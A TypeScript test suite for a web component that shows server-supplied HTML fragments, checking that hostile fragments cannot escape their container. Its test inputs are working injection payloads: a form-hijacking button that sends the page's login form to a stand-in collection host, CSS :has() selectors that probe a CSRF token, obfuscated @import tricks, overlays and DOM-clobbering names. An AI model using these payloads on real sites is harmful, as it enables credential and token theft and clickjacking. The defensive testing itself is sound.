// A fragment affects its own gate only: one test per way a fragment once acted outside it (a nested
// gate or other custom element, form association, styles, remote CSS, a selector reading the page,
// an overlay, the top layer, named properties of `document`), and the element reading browser state
// through references a page element cannot shadow.
import { expect, fixture } from '@open-wc/testing';
import { html } from 'lit';
import { browser } from '../../src/element/browser.js';
import {
  type BcCustomerGate,
  gateHtml,
  mountGate,
  requests,
  resetEnvironment,
  scenario,
  sleep,
  stateOf,
} from './helpers.js';

/** A gate verified with `markup` as its `text/html` answer. */
async function showFragment(markup: string): Promise<BcCustomerGate> {
  const s = await scenario({ exchange: [{ body: markup, type: 'text/html' }] });
  const gate = await mountGate(gateHtml(s));
  await stateOf(gate, 'verified');
  return gate;
}

/** The page's own login form, as a theme would have it, recording every submission. */
async function pageForm(): Promise<{ form: HTMLFormElement; submitted: string[] }> {
  const host = await fixture<HTMLDivElement>(html`
    <div>
      <form id="pageForm" action="/login" method="post">
        <input name="csrf" value="s3cret-csrf-token" />
        <button id="pageSubmit">Sign in</button>
      </form>
    </div>
  `);
  const form = host.querySelector('form')!;
  const submitted: string[] = [];
  form.addEventListener('submit', (event) => {
    event.preventDefault();
    submitted.push((event as SubmitEvent).submitter?.getAttribute('formaction') ?? form.action);
  });
  return { form, submitted };
}

const inside = (gate: BcCustomerGate, selector: string) => gate.shadowRoot!.querySelector<HTMLElement>(selector);

describe('fragments stay inside their gate', () => {
  beforeEach(() => resetEnvironment());
  afterEach(() => resetEnvironment());

  it('a nested <bc-customer-gate> is removed: its token goes nowhere', async () => {
    const elsewhere = await scenario();
    const gate = await showFragment(
      `<p id="kept">mine</p><bc-customer-gate client-id="other" endpoint="${elsewhere.endpoint}" token-url="${elsewhere.tokenUrl}"></bc-customer-gate>`,
    );
    await sleep(300);
    expect(inside(gate, 'bc-customer-gate')).to.equal(null);
    expect(inside(gate, '#kept')!.textContent).to.equal('mine');
    expect(await requests(elsewhere)).to.deep.equal([]);
  });

  it('another custom element is removed before the page could upgrade it', async () => {
    let constructed = 0;
    if (!customElements.get('x-probe'))
      customElements.define(
        'x-probe',
        class extends HTMLElement {
          constructor() {
            super();
            constructed++;
          }
        },
      );
    const gate = await showFragment('<x-probe></x-probe><div><x-probe></x-probe></div>');
    expect(inside(gate, 'x-probe')).to.equal(null);
    expect(constructed).to.equal(0);
  });

  it('<button form=pageForm formaction=…> neither joins nor submits the page form', async () => {
    const { form, submitted } = await pageForm();
    const gate = await showFragment(
      '<button id="b" form="pageForm" formaction="https://elsewhere.example/collect" style="position:fixed;inset:0">Go</button>',
    );
    const button = inside(gate, '#b') as HTMLButtonElement;
    expect(button.form).to.equal(null);
    button.click();
    await sleep(50);
    expect(submitted).to.deep.equal([]);
    expect([...form.elements]).to.not.include(button);
  });

  it('<input form=pageForm> adds no field to the page form', async () => {
    const { form } = await pageForm();
    const gate = await showFragment('<input id="i" form="pageForm" name="extra" value="x">');
    expect((inside(gate, '#i') as HTMLInputElement).form).to.equal(null);
    expect(new FormData(form).has('extra')).to.equal(false);
  });

  it('<label for=pageSubmit> does not reach the page form', async () => {
    const { submitted } = await pageForm();
    const gate = await showFragment('<label id="l" for="pageSubmit">Click me</label>');
    const label = inside(gate, '#l') as HTMLLabelElement;
    expect(label.control).to.equal(null);
    label.click();
    await sleep(50);
    expect(submitted).to.deep.equal([]);
  });

  it("a fragment's <style> styles the fragment only, not the page", async () => {
    const { form } = await pageForm();
    const gate = await showFragment(
      '<style>form, #pageForm, body { visibility: hidden; display: none } p { color: rgb(1, 2, 3) }</style><p id="own">mine</p>',
    );
    expect(getComputedStyle(form).visibility).to.equal('visible');
    expect(getComputedStyle(form).display).to.equal('block');
    expect(getComputedStyle(document.body).display).to.equal('block');
    expect(getComputedStyle(inside(gate, '#own')!).color).to.equal('rgb(1, 2, 3)');
  });

  it('@import in <style> or <svg><style> is removed, however it is spelled: no remote CSS', async () => {
    const url = (n: number) => `${location.origin}/__never/imported-${n}-${Math.random()}.css`;
    const urls = [url(1), url(2), url(3), url(4)];
    const gate = await showFragment(
      `<style>@import url("${urls[0]}");</style>` +
        `<svg><style>@import "${urls[1]}";</style></svg>` +
        `<style>@\\69mport "${urls[2]}";</style>` +
        `<style>@IMPORT/**/"${urls[3]}";</style><p id="kept">kept</p>`,
    );
    await sleep(200);
    expect(gate.shadowRoot!.querySelectorAll('style')).to.have.length(0);
    for (const u of urls) expect(performance.getEntriesByName(u), u).to.have.length(0);
    expect(inside(gate, '#kept')).to.not.equal(null);
  });

  it("a :has() selector cannot read the page's CSRF token; :host and :host-context styles are removed", async () => {
    await pageForm();
    const probe = 'color: rgb(9, 9, 9)';
    const gate = await showFragment(
      `<style>:root:has(input[value^="s3"]) #p1, body:has(input[value^="s3"]) #p1 { ${probe} }</style>` +
        `<style>:host-context(body:has(input[value^="s3"])) #p2 { ${probe} }</style>` +
        `<style>:host { position: fixed; inset: 0 }</style>` +
        '<p id="p1">a</p><p id="p2">b</p>',
    );
    expect(getComputedStyle(inside(gate, '#p1')!).color).to.not.equal('rgb(9, 9, 9)');
    expect(getComputedStyle(inside(gate, '#p2')!).color).to.not.equal('rgb(9, 9, 9)');
    expect(getComputedStyle(gate).position).to.equal('static');
    expect(gate.shadowRoot!.querySelectorAll('style')).to.have.length(1);
  });

  it('a position: fixed overlay covers the gate box at most', async () => {
    const gate = await showFragment(
      '<p>mine</p><div id="cover" style="position:fixed;inset:0;z-index:2147483647;background:red"></div>',
    );
    const box = gate.getBoundingClientRect();
    const cover = inside(gate, '#cover')!.getBoundingClientRect();
    expect(cover.top).to.be.at.least(box.top - 0.5);
    expect(cover.bottom).to.be.at.most(box.bottom + 0.5);
    // Below the gate, the page is what a click reaches.
    const hit = document.elementFromPoint(10, Math.min(innerHeight - 5, box.bottom + 20));
    expect(hit).to.not.equal(gate);
  });

  it('popover and command attributes are removed: nothing opens in the top layer', async () => {
    const gate = await showFragment(
      '<div id="pop" popover style="position:fixed;inset:0">cover</div><button id="open" popovertarget="pop" popovertargetaction="show">x</button>' +
        '<dialog id="dlg">d</dialog><button id="cmd" commandfor="dlg" command="show-modal">y</button>',
    );
    for (const id of ['open', 'cmd']) inside(gate, `#${id}`)!.click();
    await sleep(50);
    expect(inside(gate, '#pop')!.getAttributeNames()).to.deep.equal(['id', 'style']);
    expect(inside(gate, '#open')!.getAttributeNames()).to.deep.equal(['id']);
    expect(inside(gate, '#cmd')!.getAttributeNames()).to.deep.equal(['id']);
    expect((inside(gate, '#dlg') as HTMLDialogElement).open).to.equal(false);
  });

  it('named elements in a fragment shadow no property of document or window', async () => {
    const gate = await showFragment(
      '<img name="createElement"><img name="visibilityState"><form name="activeElement"></form><img id="fetch" name="cookie">',
    );
    expect(inside(gate, 'img')).to.not.equal(null);
    expect(typeof document.createElement).to.equal('function');
    expect(document.visibilityState).to.be.a('string');
    expect(document.activeElement).to.not.be.instanceOf(HTMLFormElement);
    expect(typeof window.fetch).to.equal('function');
    expect(typeof document.cookie).to.equal('string');
  });
});

describe('the element reads the page through references captured when it loaded', () => {
  beforeEach(() => resetEnvironment());

  it('a page element named visibilityState or createElement changes nothing', async () => {
    const host = await fixture<HTMLDivElement>(html`
      <div><img name="visibilityState" /><img name="createElement" /><img name="activeElement" /></div>
    `);
    expect(document.visibilityState).to.be.instanceOf(HTMLImageElement);
    expect(browser.visible()).to.equal(true);
    const s = await scenario();
    // Parsed, not built with document.createElement, which the page element now shadows.
    host.insertAdjacentHTML('beforeend', gateHtml(s, '<template><p id="t">stamped</p></template>'));
    const gate = host.querySelector('bc-customer-gate')!;
    try {
      await stateOf(gate, 'verified');
      expect(gate.querySelector('#t')).to.not.equal(null);
      expect(gate.shadowRoot!.querySelector('slot')).to.not.equal(null);
    } finally {
      host.remove();
    }
  });
});
